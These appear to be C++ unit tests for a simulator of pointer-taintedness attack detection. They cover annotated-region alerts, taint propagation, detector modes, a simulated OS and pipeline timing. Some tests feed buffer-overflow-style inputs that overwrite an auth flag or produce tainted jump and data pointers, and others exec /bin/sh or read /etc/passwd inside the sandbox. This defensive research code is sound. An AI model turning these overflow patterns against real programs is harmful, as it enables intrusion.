// data structures, alert when one becomes tainted.  This catches the
// Table 4(B) flag-overwrite false negative.
#include <gtest/gtest.h>

#include "core/machine.hpp"
#include "guest/apps/apps.hpp"
#include "guest/runtime.hpp"

namespace ptaint::core {
namespace {

using cpu::AlertKind;

// fn_auth_flag keeps `auth` in main's frame: crt0 jumps to main with
// $sp = kStackTop, main's frame is 40 bytes and auth sits at sp+28.
constexpr uint32_t kAuthFlagAddr = isa::layout::kStackTop - 40 + 28;

TEST(Annotation, CatchesAuthFlagOverwrite) {
  Machine m;
  m.load_sources(guest::link_with_runtime(guest::apps::fn_auth_flag()));
  m.cpu().protect_region(kAuthFlagAddr, 4, "auth_flag");
  m.os().set_stdin(std::string(16, 'a'));  // Table 4(B) attack input
  auto r = m.run();
  ASSERT_TRUE(r.detected());
  EXPECT_EQ(r.alert->kind, AlertKind::kAnnotatedRegionTainted);
  EXPECT_NE(r.alert->to_string().find("auth_flag"), std::string::npos);
}

TEST(Annotation, BenignAuthStillWorks) {
  Machine m;
  m.load_sources(guest::link_with_runtime(guest::apps::fn_auth_flag()));
  m.cpu().protect_region(kAuthFlagAddr, 4, "auth_flag");
  m.os().set_stdin("alice");
  auto r = m.run();
  EXPECT_EQ(r.stop, cpu::StopReason::kExit);
  EXPECT_EQ(r.exit_status, 0);  // denied, no alert
}

TEST(Annotation, WithoutAnnotationTheAttackStillEscapes) {
  Machine m;
  m.load_sources(guest::link_with_runtime(guest::apps::fn_auth_flag()));
  m.os().set_stdin(std::string(16, 'a'));
  auto r = m.run();
  EXPECT_FALSE(r.detected());
  EXPECT_EQ(r.exit_status, 7);  // access granted: the Table 4(B) miss
}

TEST(Annotation, ProtectSymbolByName) {
  Machine m;
  m.load_source(R"(
    .data
    .align 2
config: .word 0
inbuf:  .space 16
    .text
_start:
    li $v0, 3           # read 4 tainted bytes
    li $a0, 0
    la $a1, inbuf
    li $a2, 4
    syscall
    lbu $t0, inbuf      # tainted byte
    bgeu $t0, 200, out  # "validated" (untaints the register copy only? no:
                        # compare untaints $t0 -- so re-load to stay tainted)
    lbu $t0, inbuf
    sw $t0, config      # tainted write into the protected word
out:
    li $v0, 1
    li $a0, 0
    syscall
  )");
  m.protect_symbol("config", 4);
  m.os().set_stdin("\x05xyz");
  auto r = m.run();
  ASSERT_TRUE(r.detected());
  EXPECT_EQ(r.alert->kind, AlertKind::kAnnotatedRegionTainted);
  EXPECT_NE(r.alert_line().find("config"), std::string::npos);
}

TEST(Annotation, UntaintedConstantWriteIsNotFlagged) {
  // The annotation rule is taintedness-based (the paper's wording): an
  // attacker overwriting the region with an untainted constant — as the
  // Table 4(A) index attack does — is still missed.
  Machine m;
  m.load_source(R"(
    .data
    .align 2
config: .word 7
    .text
_start:
    li $t0, 99
    sw $t0, config
    li $v0, 1
    li $a0, 0
    syscall
  )");
  m.protect_symbol("config", 4);
  auto r = m.run();
  EXPECT_FALSE(r.detected());
  EXPECT_EQ(m.memory().load_word(m.program().symbols.at("config")).value, 99u);
}

TEST(Annotation, ByteStoreOutsideRegionNotFlagged) {
  Machine m;
  m.load_source(R"(
    .data
    .align 2
before: .word 0
config: .word 0
after:  .word 0
inbuf:  .space 8
    .text
_start:
    li $v0, 3
    li $a0, 0
    la $a1, inbuf
    li $a2, 2
    syscall
    lbu $t0, inbuf
    sb $t0, before+3    # tainted, adjacent but outside
    lbu $t0, inbuf+1
    sb $t0, after       # tainted, adjacent but outside
    li $v0, 1
    li $a0, 0
    syscall
  )");
  m.protect_symbol("config", 4);
  m.os().set_stdin("zz");
  auto r = m.run();
  EXPECT_FALSE(r.detected());
}

TEST(Annotation, HalfStoreOverlapIsFlagged) {
  Machine m;
  m.load_source(R"(
    .data
    .align 2
config: .word 0
inbuf:  .space 8
    .text
_start:
    li $v0, 3
    li $a0, 0
    la $a1, inbuf
    li $a2, 2
    syscall
    lhu $t0, inbuf
    sh $t0, config+2    # tainted half overlapping the region tail
    li $v0, 1
    li $a0, 0
    syscall
  )");
  m.protect_symbol("config", 4);
  m.os().set_stdin("zz");
  auto r = m.run();
  EXPECT_TRUE(r.detected());
}

TEST(Annotation, DisabledWhenDetectionOff) {
  MachineConfig cfg;
  cfg.policy.mode = cpu::DetectionMode::kOff;
  Machine m(cfg);
  m.load_sources(guest::link_with_runtime(guest::apps::fn_auth_flag()));
  m.cpu().protect_region(kAuthFlagAddr, 4, "auth_flag");
  m.os().set_stdin(std::string(16, 'a'));
  auto r = m.run();
  EXPECT_FALSE(r.detected());
}

}  // namespace
}  // namespace ptaint::core
