// Integration tests for the execution core: functional semantics, taint
// propagation through real instruction sequences, and the two pointer-
// taintedness detectors under each detection mode.
#include <gtest/gtest.h>

#include "core/machine.hpp"

namespace ptaint::core {
namespace {

using cpu::AlertKind;
using cpu::DetectionMode;
using cpu::StopReason;

RunReport run_source(const std::string& src, MachineConfig cfg = {},
                     const std::string& stdin_data = "") {
  Machine m(cfg);
  m.load_source(src);
  if (!stdin_data.empty()) m.os().set_stdin(stdin_data);
  return m.run();
}

TEST(Exec, ExitStatus) {
  auto r = run_source(R"(
    .text
    _start:
      li $a0, 42
      li $v0, 1      # SYS_EXIT
      syscall
  )");
  EXPECT_EQ(r.stop, StopReason::kExit);
  EXPECT_EQ(r.exit_status, 42);
}

TEST(Exec, ArithmeticAndLoop) {
  // Sum 1..10 and exit with the sum.
  auto r = run_source(R"(
    .text
    _start:
      li $t0, 0       # sum
      li $t1, 1       # i
    loop:
      addu $t0, $t0, $t1
      addiu $t1, $t1, 1
      ble $t1, 10, loop
      move $a0, $t0
      li $v0, 1
      syscall
  )");
  EXPECT_EQ(r.exit_status, 55);
}

TEST(Exec, MemoryAndFunctions) {
  auto r = run_source(R"(
    .data
    cell: .word 0
    .text
    _start:
      li $a0, 7
      jal double_it
      la $t0, cell
      sw $v0, 0($t0)
      lw $a0, cell
      li $v0, 1
      syscall
    double_it:
      addu $v0, $a0, $a0
      jr $ra
  )");
  EXPECT_EQ(r.exit_status, 14);
}

TEST(Exec, MultDivHiLo) {
  auto r = run_source(R"(
    .text
    _start:
      li $t0, 100
      li $t1, 7
      div $t0, $t1      # lo = 14, hi = 2
      mfhi $t2
      mflo $t3
      mul $t4, $t2, $t3 # 28
      move $a0, $t4
      li $v0, 1
      syscall
  )");
  EXPECT_EQ(r.exit_status, 28);
}

TEST(Exec, SignedUnsignedCompare) {
  auto r = run_source(R"(
    .text
    _start:
      li $t0, -1
      li $t1, 1
      slt  $t2, $t0, $t1   # signed: -1 < 1 -> 1
      sltu $t3, $t0, $t1   # unsigned: 0xffffffff < 1 -> 0
      sll $t2, $t2, 1
      or $a0, $t2, $t3     # 2
      li $v0, 1
      syscall
  )");
  EXPECT_EQ(r.exit_status, 2);
}

TEST(Exec, FaultOnInvalidInstruction) {
  Machine m;
  m.load_source(".text\n_start: nop\n");
  // Overwrite the nop with an undefined encoding.
  m.memory().store_word(isa::layout::kTextBase, mem::TaintedWord{0xffffffff});
  auto r = m.run();
  EXPECT_EQ(r.stop, StopReason::kFault);
  EXPECT_NE(r.fault.find("invalid"), std::string::npos);
}

TEST(Exec, FaultOnMisalignedFetch) {
  auto r = run_source(R"(
    .text
    _start:
      li $t0, 2
      jr $t0
  )");
  EXPECT_EQ(r.stop, StopReason::kFault);
  EXPECT_NE(r.fault.find("misaligned"), std::string::npos);
}

TEST(Exec, InstructionLimit) {
  MachineConfig cfg;
  cfg.max_instructions = 100;
  auto r = run_source(".text\n_start: b _start\n", cfg);
  EXPECT_EQ(r.stop, StopReason::kInstLimit);
  EXPECT_EQ(r.cpu_stats.instructions, 100u);
}

// ---- taint flow through real sequences ----

TEST(TaintFlow, ReadTaintsBufferAndLoadsCarryIt) {
  // Read 4 bytes into `buf`, load them, and exit with a marker telling
  // whether the loaded register was tainted (via a store to an address
  // derived from it: tainted -> alert).
  auto r = run_source(R"(
    .data
    buf: .space 16
    .text
    _start:
      li $v0, 3          # SYS_READ
      li $a0, 0
      la $a1, buf
      li $a2, 4
      syscall
      lw $t0, buf        # t0 now holds tainted input bytes
      lw $t1, 0($t0)     # dereference tainted word -> alert
      li $v0, 1
      li $a0, 0
      syscall
  )",
                      {}, "ABCD");
  ASSERT_TRUE(r.detected());
  EXPECT_EQ(r.alert->kind, AlertKind::kTaintedLoadAddress);
  EXPECT_EQ(r.alert->reg_value, 0x44434241u);  // "ABCD"
  EXPECT_EQ(r.alert->taint, mem::kAllTainted);
}

TEST(TaintFlow, ArithmeticPropagatesIntoAddress) {
  // Tainted value + untainted base = tainted pointer -> store detector.
  auto r = run_source(R"(
    .data
    buf: .space 4
    .text
    _start:
      li $v0, 3
      li $a0, 0
      la $a1, buf
      li $a2, 1
      syscall
      lbu $t0, buf        # tainted byte
      la $t1, buf
      addu $t2, $t1, $t0  # tainted index arithmetic
      sw $zero, 0($t2)    # alert: tainted store address
      li $v0, 1
      syscall
  )",
                      {}, "\x08");
  ASSERT_TRUE(r.detected());
  EXPECT_EQ(r.alert->kind, AlertKind::kTaintedStoreAddress);
  EXPECT_EQ(r.alert->disasm, "sw $0,0($10)");
}

TEST(TaintFlow, ByteCopyLoopPreservesTaint) {
  // memcpy-style loop: taint must survive lbu/sb into the destination.
  auto r = run_source(R"(
    .data
    src: .space 8
    dst: .space 8
    .text
    _start:
      li $v0, 3
      li $a0, 0
      la $a1, src
      li $a2, 4
      syscall
      la $t0, src
      la $t1, dst
      li $t2, 4
    copy:
      lbu $t3, 0($t0)
      sb  $t3, 0($t1)
      addiu $t0, $t0, 1
      addiu $t1, $t1, 1
      addiu $t2, $t2, -1
      bgtz $t2, copy
      lw $t4, dst        # gather the copied (tainted) bytes
      lw $t5, 0($t4)     # deref -> alert proves taint survived the copy
      li $v0, 1
      syscall
  )",
                      {}, "WXYZ");
  ASSERT_TRUE(r.detected());
  EXPECT_EQ(r.alert->reg_value, 0x5a595857u);  // "WXYZ"
}

TEST(TaintFlow, CompareUntaintsValidatedInput) {
  // Bounds-checked input is trusted afterwards (Table 1 case 4): the
  // blt expansion (slt+bne) untaints $t0, so the dereference is clean.
  auto r = run_source(R"(
    .data
    buf:   .space 4
    table: .word 11, 22, 33, 44
    .text
    _start:
      li $v0, 3
      li $a0, 0
      la $a1, buf
      li $a2, 1
      syscall
      lbu $t0, buf          # tainted index, value '\x02'
      li $t1, 4
      bge $t0, $t1, bad     # validation: index < 4 (untaints $t0)
      sll $t0, $t0, 2
      la $t2, table
      addu $t2, $t2, $t0
      lw $a0, 0($t2)        # no alert: $t0 was untainted by the compare
      li $v0, 1
      syscall
    bad:
      li $a0, -1
      li $v0, 1
      syscall
  )",
                      {}, "\x02");
  EXPECT_EQ(r.stop, StopReason::kExit);
  EXPECT_EQ(r.exit_status, 33);
}

TEST(TaintFlow, CompareUntaintDisabledStillAlerts) {
  MachineConfig cfg;
  cfg.policy.compare_untaints = false;
  auto r = run_source(R"(
    .data
    buf:   .space 4
    table: .word 11, 22, 33, 44
    .text
    _start:
      li $v0, 3
      li $a0, 0
      la $a1, buf
      li $a2, 1
      syscall
      lbu $t0, buf
      li $t1, 4
      bge $t0, $t1, bad
      sll $t0, $t0, 2
      la $t2, table
      addu $t2, $t2, $t0
      lw $a0, 0($t2)
    bad:
      li $v0, 1
      syscall
  )",
                      cfg, "\x02");
  // Without the compatibility rule even validated input trips the detector.
  ASSERT_TRUE(r.detected());
  EXPECT_EQ(r.alert->kind, AlertKind::kTaintedLoadAddress);
}

TEST(TaintFlow, XorZeroIdiomClearsTaint) {
  auto r = run_source(R"(
    .data
    buf: .space 4
    .text
    _start:
      li $v0, 3
      li $a0, 0
      la $a1, buf
      li $a2, 4
      syscall
      lw $t0, buf
      xor $t0, $t0, $t0   # zeroing idiom: constant 0, untainted
      la $t1, buf
      addu $t1, $t1, $t0
      lw $a0, 0($t1)      # clean pointer
      li $v0, 1
      li $a0, 0
      syscall
  )",
                      {}, "ABCD");
  EXPECT_EQ(r.stop, StopReason::kExit);
}

TEST(Detect, TaintedJumpTarget) {
  auto r = run_source(R"(
    .data
    buf: .space 4
    .text
    _start:
      li $v0, 3
      li $a0, 0
      la $a1, buf
      li $a2, 4
      syscall
      lw $t0, buf
      jr $t0             # jump detector after ID/EX
  )",
                      {}, "aaaa");
  ASSERT_TRUE(r.detected());
  EXPECT_EQ(r.alert->kind, AlertKind::kTaintedJumpTarget);
  EXPECT_EQ(r.alert->reg_value, 0x61616161u);
  EXPECT_EQ(r.alert->disasm, "jr $8");
}

TEST(Detect, ControlDataOnlyMissesDataPointer) {
  MachineConfig cfg;
  cfg.policy.mode = DetectionMode::kControlDataOnly;
  auto r = run_source(R"(
    .data
    buf: .space 4
    .text
    _start:
      li $v0, 3
      li $a0, 0
      la $a1, buf
      li $a2, 4
      syscall
      lw $t0, buf
      andi $t0, $t0, 0xfffc  # keep it aligned, still tainted
      lui $t1, 0x1000
      or $t0, $t0, $t1
      lw $t2, 0($t0)     # tainted data pointer: baseline does NOT detect
      li $v0, 1
      li $a0, 0
      syscall
  )",
                      cfg, "\x10\x20\x30\x40");
  EXPECT_EQ(r.stop, StopReason::kExit);  // attack-style deref slips through
}

TEST(Detect, ControlDataOnlyCatchesJumpTarget) {
  MachineConfig cfg;
  cfg.policy.mode = DetectionMode::kControlDataOnly;
  auto r = run_source(R"(
    .data
    buf: .space 4
    .text
    _start:
      li $v0, 3
      li $a0, 0
      la $a1, buf
      li $a2, 4
      syscall
      lw $t0, buf
      jr $t0
  )",
                      cfg, "aaaa");
  ASSERT_TRUE(r.detected());
  EXPECT_EQ(r.alert->kind, AlertKind::kTaintedJumpTarget);
}

TEST(Detect, OffModeRunsToCrash) {
  MachineConfig cfg;
  cfg.policy.mode = DetectionMode::kOff;
  auto r = run_source(R"(
    .data
    buf: .space 4
    .text
    _start:
      li $v0, 3
      li $a0, 0
      la $a1, buf
      li $a2, 4
      syscall
      lw $t0, buf
      jr $t0             # 0x61616161: misaligned fetch -> fault, no alert
  )",
                      cfg, "aaaa");
  EXPECT_EQ(r.stop, StopReason::kFault);
  EXPECT_FALSE(r.alert.has_value());
}

TEST(Report, AlertLineFormat) {
  auto r = run_source(R"(
    .data
    buf: .space 4
    .text
    _start:
      li $v0, 3
      li $a0, 0
      la $a1, buf
      li $a2, 4
      syscall
      jal victim
      break
    victim:
      lw $3, buf
      sw $21, 0($3)
  )",
                      {}, "abcd");
  ASSERT_TRUE(r.detected());
  EXPECT_NE(r.alert_line().find("sw $21,0($3)"), std::string::npos);
  EXPECT_NE(r.alert_line().find("$3=0x64636261"), std::string::npos);
  EXPECT_EQ(r.alert_function, "victim");
}

TEST(Stats, CountersAdvance) {
  auto r = run_source(R"(
    .data
    w: .word 5
    .text
    _start:
      lw $t0, w
      sw $t0, w
      li $v0, 1
      li $a0, 0
      syscall
  )");
  EXPECT_GE(r.cpu_stats.loads, 1u);
  EXPECT_GE(r.cpu_stats.stores, 1u);
  EXPECT_EQ(r.cpu_stats.syscalls, 1u);
  EXPECT_GT(r.cpu_stats.instructions, 4u);
}

TEST(Pipeline, TimingModelProducesCycles) {
  MachineConfig cfg;
  cfg.pipeline_model = true;
  auto r = run_source(R"(
    .text
    _start:
      li $t0, 0
      li $t1, 200
    loop:
      addiu $t0, $t0, 1
      bne $t0, $t1, loop
      li $v0, 1
      li $a0, 0
      syscall
  )",
                      cfg);
  ASSERT_TRUE(r.pipeline_stats.has_value());
  EXPECT_GT(r.pipeline_stats->cycles, r.pipeline_stats->instructions);
  EXPECT_GT(r.pipeline_stats->ipc(), 0.2);
  EXPECT_LE(r.pipeline_stats->ipc(), 1.0);
}

TEST(Pipeline, TaintLogicOffCriticalPath) {
  const auto d = cpu::Pipeline::stage_delays();
  EXPECT_FALSE(d.taint_on_critical_path());
  EXPECT_LT(d.taint_merge_ps, d.alu_ps);
  EXPECT_LT(d.detector_ps, d.retire_check_ps);
}

}  // namespace
}  // namespace ptaint::core
