// Tests for the simulated OS: syscall behaviour, the taint boundary at
// READ/RECV, VFS, virtual network sessions, and argv/env tainting.
#include <gtest/gtest.h>

#include "core/machine.hpp"

namespace ptaint::core {
namespace {

using cpu::StopReason;

TEST(Vfs, InstallOpenReadClose) {
  os::Vfs vfs;
  vfs.install("/etc/passwd", std::string("root:x:0:0:\n"));
  EXPECT_TRUE(vfs.exists("/etc/passwd"));
  auto h = vfs.open("/etc/passwd");
  ASSERT_TRUE(h.has_value());
  auto chunk = vfs.read(*h, 6);
  ASSERT_TRUE(chunk.has_value());
  EXPECT_EQ(std::string(chunk->begin(), chunk->end()), "root:x");
  vfs.close(*h);
  EXPECT_FALSE(vfs.read(*h, 1).has_value());
  EXPECT_FALSE(vfs.open("/missing").has_value());
}

TEST(Vfs, WriteHandleAppends) {
  os::Vfs vfs;
  int h = vfs.open_write("/tmp/out");
  const std::string a = "hello ", b = "world";
  vfs.write(h, {reinterpret_cast<const uint8_t*>(a.data()), a.size()});
  vfs.write(h, {reinterpret_cast<const uint8_t*>(b.data()), b.size()});
  const auto* c = vfs.contents("/tmp/out");
  ASSERT_NE(c, nullptr);
  EXPECT_EQ(std::string(c->begin(), c->end()), "hello world");
}

TEST(Vnet, SessionLifecycle) {
  os::VirtualNetwork net;
  net.add_session({"GET / HTTP/1.0\r\n", "more"});
  EXPECT_TRUE(net.has_pending_session());
  auto id = net.accept();
  ASSERT_TRUE(id.has_value());
  EXPECT_FALSE(net.has_pending_session());
  auto c1 = net.recv(*id);
  ASSERT_TRUE(c1.has_value());
  EXPECT_EQ(std::string(c1->begin(), c1->end()), "GET / HTTP/1.0\r\n");
  auto c2 = net.recv(*id);
  EXPECT_EQ(std::string(c2->begin(), c2->end()), "more");
  EXPECT_TRUE(net.recv(*id)->empty());  // EOF
  const std::string reply = "200 OK";
  net.send(*id, {reinterpret_cast<const uint8_t*>(reply.data()), reply.size()});
  EXPECT_EQ(net.transcript(0), "200 OK");
}

TEST(Vnet, RecvOnUnacceptedOrBadIdFails) {
  os::VirtualNetwork net;
  net.add_session({"x"});
  EXPECT_FALSE(net.recv(0).has_value());  // not accepted yet
  EXPECT_FALSE(net.recv(7).has_value());
  EXPECT_FALSE(net.accept().has_value() && net.accept().has_value());
}

RunReport run_with(Machine& m, const std::string& src) {
  m.load_source(src);
  return m.run();
}

TEST(Syscalls, WriteCapturesStdout) {
  Machine m;
  auto r = run_with(m, R"(
    .data
    msg: .asciiz "220 FTP server ready.\n"
    .text
    _start:
      li $v0, 4        # SYS_WRITE
      li $a0, 1
      la $a1, msg
      li $a2, 22
      syscall
      li $v0, 1
      li $a0, 0
      syscall
  )");
  EXPECT_EQ(r.stdout_text, "220 FTP server ready.\n");
}

TEST(Syscalls, ReadFromFileTaintsBuffer) {
  Machine m;
  m.os().vfs().install("/input.txt", std::string("FILEDATA"));
  auto r = run_with(m, R"(
    .data
    path: .asciiz "/input.txt"
    buf:  .space 16
    .text
    _start:
      li $v0, 5          # SYS_OPEN
      la $a0, path
      li $a1, 0
      syscall
      move $a0, $v0
      li $v0, 3          # SYS_READ
      la $a1, buf
      li $a2, 8
      syscall
      move $a0, $v0      # exit status = bytes read
      li $v0, 1
      syscall
  )");
  EXPECT_EQ(r.exit_status, 8);
  EXPECT_EQ(r.os_stats.input_bytes_tainted, 8u);
  EXPECT_TRUE(m.memory().any_tainted_in(m.program().symbols.at("buf"), 8));
}

TEST(Syscalls, TaintingDisabledForBaselineRuns) {
  MachineConfig cfg;
  Machine m(cfg);
  m.os().set_taint_inputs(false);
  m.os().set_stdin("abcd");
  auto r = run_with(m, R"(
    .data
    buf: .space 8
    .text
    _start:
      li $v0, 3
      li $a0, 0
      la $a1, buf
      li $a2, 4
      syscall
      li $v0, 1
      li $a0, 0
      syscall
  )");
  EXPECT_EQ(r.os_stats.input_bytes_tainted, 0u);
  EXPECT_FALSE(m.memory().any_tainted_in(m.program().symbols.at("buf"), 4));
}

TEST(Syscalls, BrkGrowsHeap) {
  Machine m;
  auto r = run_with(m, R"(
    .text
    _start:
      li $v0, 17       # SYS_BRK query
      li $a0, 0
      syscall
      addiu $a0, $v0, 0x100
      li $v0, 17       # grow
      syscall
      move $t0, $v0
      li $v0, 17       # query again
      li $a0, 0
      syscall
      subu $a0, $v0, $t0   # 0 if stable
      li $v0, 1
      syscall
  )");
  EXPECT_EQ(r.exit_status, 0);
  EXPECT_GT(m.os().brk(), isa::layout::kDataBase);
}

TEST(Syscalls, SocketAcceptRecvSendRoundTrip) {
  Machine m;
  m.os().net().add_session({"USER alice\r\n"});
  auto r = run_with(m, R"(
    .data
    buf: .space 64
    .text
    _start:
      li $v0, 40       # SYS_SOCKET
      syscall
      move $s0, $v0
      move $a0, $s0
      li $v0, 41       # SYS_BIND
      syscall
      move $a0, $s0
      li $v0, 42       # SYS_LISTEN
      syscall
      move $a0, $s0
      li $v0, 43       # SYS_ACCEPT
      syscall
      move $s1, $v0
      move $a0, $s1
      la $a1, buf
      li $a2, 64
      li $v0, 44       # SYS_RECV
      syscall
      move $s2, $v0    # bytes received
      move $a0, $s1
      la $a1, buf
      move $a2, $s2
      li $v0, 45       # SYS_SEND (echo)
      syscall
      move $a0, $s2
      li $v0, 1
      syscall
  )");
  EXPECT_EQ(r.exit_status, 12);
  EXPECT_EQ(m.os().net().transcript(0), "USER alice\r\n");
  EXPECT_EQ(r.os_stats.recvs, 1u);
  EXPECT_EQ(r.os_stats.input_bytes_tainted, 12u);
}

TEST(Syscalls, AcceptWithoutClientFails) {
  Machine m;
  auto r = run_with(m, R"(
    .text
    _start:
      li $v0, 40
      syscall
      move $a0, $v0
      li $v0, 43
      syscall
      move $a0, $v0    # -1 expected
      li $v0, 1
      syscall
  )");
  EXPECT_EQ(r.exit_status, -1);
}

TEST(Syscalls, UidSetGet) {
  Machine m;
  auto r = run_with(m, R"(
    .text
    _start:
      li $v0, 24       # GETUID
      syscall
      move $s0, $v0
      li $a0, 0
      li $v0, 23       # SETUID(0)
      syscall
      li $v0, 24
      syscall
      addu $a0, $v0, $s0   # 0 + 1000
      li $v0, 1
      syscall
  )");
  EXPECT_EQ(r.exit_status, 1000);
  EXPECT_EQ(m.os().uid(), 0u);
}

TEST(Syscalls, ExecIsRecorded) {
  Machine m;
  auto r = run_with(m, R"(
    .data
    sh: .asciiz "/bin/sh"
    .text
    _start:
      la $a0, sh
      li $v0, 59       # SYS_EXEC
      syscall
      li $v0, 1
      li $a0, 0
      syscall
  )");
  ASSERT_EQ(m.os().exec_log().size(), 1u);
  EXPECT_EQ(m.os().exec_log()[0], "/bin/sh");
}

TEST(Syscalls, UnknownSyscallFaults) {
  Machine m;
  auto r = run_with(m, ".text\n_start: li $v0, 999\nsyscall\n");
  EXPECT_EQ(r.stop, StopReason::kFault);
  EXPECT_NE(r.fault.find("999"), std::string::npos);
}

TEST(Loader, ArgvBytesAreTaintedPointersAreNot) {
  MachineConfig cfg;
  cfg.argv = {"traceroute", "-g", "123"};
  Machine m(cfg);
  m.load_source(R"(
    .text
    _start:
      lw $t0, 0($a1)     # argv[0] pointer cell: untainted
      lw $t1, 8($a1)     # argv[2] pointer cell
      lbu $t2, 0($t1)    # first byte of "123": tainted -> use as pointer
      lw $t3, 0($t2)     # alert expected
      li $v0, 1
      li $a0, 0
      syscall
  )");
  auto r = m.run();
  ASSERT_TRUE(r.detected());
  EXPECT_EQ(r.alert->reg_value, static_cast<uint32_t>('1'));
}

TEST(Loader, ArgcInA0AndTerminators) {
  MachineConfig cfg;
  cfg.argv = {"prog", "x"};
  cfg.env = {"PATH=/bin"};
  Machine m(cfg);
  m.load_source(R"(
    .text
    _start:
      move $a0, $a0    # argc
      li $v0, 1
      syscall
  )");
  auto r = m.run();
  EXPECT_EQ(r.exit_status, 2);
  // argv[2] slot is the NULL terminator.
  const uint32_t argv_base = isa::layout::kArgBase + 4;
  EXPECT_EQ(m.memory().load_word(argv_base + 8).value, 0u);
}

}  // namespace
}  // namespace ptaint::core
