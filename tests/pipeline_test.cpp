// Tests for the pipeline timing model: hazard accounting, cache behaviour,
// and the Section 5.4 overhead claims.
#include <gtest/gtest.h>

#include "core/machine.hpp"

namespace ptaint::cpu {
namespace {

using core::Machine;
using core::MachineConfig;

PipelineStats run_timed(const std::string& src,
                        PipelineConfig pipe_cfg = {}) {
  MachineConfig cfg;
  cfg.pipeline_model = true;
  cfg.pipeline = pipe_cfg;
  Machine m(cfg);
  m.load_source(src);
  auto r = m.run();
  EXPECT_EQ(r.stop, StopReason::kExit) << r.fault;
  return *r.pipeline_stats;
}

TEST(PipelineModel, LoadUseStallCounted) {
  // lw immediately followed by a consumer stalls one cycle per iteration.
  auto stalled = run_timed(R"(
    .data
w: .word 3
    .text
_start:
    li $t0, 100
loop:
    lw $t1, w            # expands to lui $at + lw
    addu $t2, $t1, $t1   # load-use on $t1
    addiu $t0, $t0, -1
    bgtz $t0, loop
    li $v0, 1
    li $a0, 0
    syscall
  )");
  auto spaced = run_timed(R"(
    .data
w: .word 3
    .text
_start:
    li $t0, 100
loop:
    lw $t1, w
    addiu $t0, $t0, -1   # independent filler between load and use
    addu $t2, $t1, $t1
    bgtz $t0, loop
    li $v0, 1
    li $a0, 0
    syscall
  )");
  EXPECT_GE(stalled.load_use_stalls, 100u);
  EXPECT_EQ(spaced.load_use_stalls, 0u);
  EXPECT_GT(stalled.cycles, spaced.cycles - 50);  // roughly one per iter
}

TEST(PipelineModel, TakenBranchesFlush) {
  auto stats = run_timed(R"(
    .text
_start:
    li $t0, 50
loop:
    addiu $t0, $t0, -1
    bgtz $t0, loop       # taken 49 times
    li $v0, 1
    li $a0, 0
    syscall
  )");
  // 49 taken branches + 1 not-taken + jal/jr-free exit; each taken branch
  // costs the configured flush.
  EXPECT_GE(stats.branch_flush_cycles, 49u * 2);
}

TEST(PipelineModel, TwoBitPredictorLearnsLoops) {
  const char* loop = R"(
    .text
_start:
    li $t0, 500
loop:
    addiu $t0, $t0, -1
    bgtz $t0, loop
    li $v0, 1
    li $a0, 0
    syscall
  )";
  PipelineConfig with_bp;
  with_bp.predictor = PipelineConfig::BranchPredictor::kTwoBit;
  auto predicted = run_timed(loop, with_bp);
  auto static_np = run_timed(loop);
  // A monotone loop is nearly perfectly predictable: a handful of warm-up
  // and exit mispredictions instead of ~500 flushes.
  EXPECT_GT(predicted.cond_branches, 499u);
  EXPECT_LT(predicted.mispredictions, 5u);
  EXPECT_GT(static_np.mispredictions, 490u);
  EXPECT_LT(predicted.cycles, static_np.cycles);
  EXPECT_LT(predicted.misprediction_rate(), 0.01);
}

TEST(PipelineModel, PredictorHandlesAlternatingBranches) {
  // Alternating taken/not-taken defeats a 2-bit counter about half the
  // time — the classic worst case.
  const char* alt = R"(
    .text
_start:
    li $t0, 400
    li $t1, 0
loop:
    andi $t2, $t0, 1
    beqz $t2, skip        # alternates every iteration
    addiu $t1, $t1, 1
skip:
    addiu $t0, $t0, -1
    bgtz $t0, loop
    li $v0, 1
    li $a0, 0
    syscall
  )";
  PipelineConfig with_bp;
  with_bp.predictor = PipelineConfig::BranchPredictor::kTwoBit;
  auto s = run_timed(alt, with_bp);
  EXPECT_GT(s.misprediction_rate(), 0.2);
  EXPECT_LT(s.misprediction_rate(), 0.8);
}

TEST(PipelineModel, ColdICacheMissesThenWarm) {
  auto stats = run_timed(R"(
    .text
_start:
    li $t0, 200
loop:
    addiu $t0, $t0, -1
    bgtz $t0, loop
    li $v0, 1
    li $a0, 0
    syscall
  )");
  // The loop fits in one or two lines: a couple of cold misses, then hits.
  EXPECT_GT(stats.icache_miss_cycles, 0u);
  EXPECT_LT(stats.icache_miss_cycles, 100u);
  EXPECT_GT(stats.ipc(), 0.3);
}

TEST(PipelineModel, DCacheStrideMissesAccumulate) {
  PipelineConfig small;
  small.dcache.size_bytes = 1024;
  small.dcache.line_bytes = 32;
  small.dcache.ways = 2;
  auto stats = run_timed(R"(
    .data
arr: .space 16384
    .text
_start:
    li $t0, 0
    la $t1, arr
loop:
    addu $t2, $t1, $t0
    sw $t0, 0($t2)
    addiu $t0, $t0, 128   # > line size: every store misses
    blt $t0, 16384, loop
    li $v0, 1
    li $a0, 0
    syscall
  )",
                         small);
  EXPECT_GE(stats.dcache_miss_cycles, 100u);
}

TEST(PipelineModel, TaintExtensionAddsNoCycles) {
  const char* src = R"(
    .data
buf: .space 64
    .text
_start:
    li $v0, 3
    li $a0, 0
    la $a1, buf
    li $a2, 32
    syscall
    li $t0, 0
loop:
    la $t1, buf
    addu $t1, $t1, $t0
    lbu $t2, 0($t1)
    addu $t3, $t3, $t2
    addiu $t0, $t0, 1
    blt $t0, 32, loop
    li $v0, 1
    li $a0, 0
    syscall
  )";
  MachineConfig with_cfg;
  with_cfg.pipeline_model = true;
  Machine with_taint(with_cfg);
  with_taint.load_source(src);
  with_taint.os().set_stdin(std::string(32, 'x'));
  auto a = with_taint.run();

  MachineConfig without_cfg;
  without_cfg.pipeline_model = true;
  without_cfg.pipeline.taint_tracking = false;
  without_cfg.policy.mode = DetectionMode::kOff;
  Machine no_taint(without_cfg);
  no_taint.load_source(src);
  no_taint.os().set_stdin(std::string(32, 'x'));
  auto b = no_taint.run();

  ASSERT_TRUE(a.pipeline_stats && b.pipeline_stats);
  EXPECT_EQ(a.pipeline_stats->cycles, b.pipeline_stats->cycles);
  EXPECT_EQ(a.pipeline_stats->instructions, b.pipeline_stats->instructions);
}

TEST(PipelineModel, StorageOverheadIsOneEighth) {
  MachineConfig cfg;
  cfg.pipeline_model = true;
  Machine m(cfg);
  m.load_source(".text\n_start: li $v0, 1\nli $a0, 0\nsyscall\n");
  m.run();
  const auto* pipe = m.pipeline();
  ASSERT_NE(pipe, nullptr);
  EXPECT_EQ(pipe->taint_storage_bits() * 8, pipe->baseline_storage_bits());
}

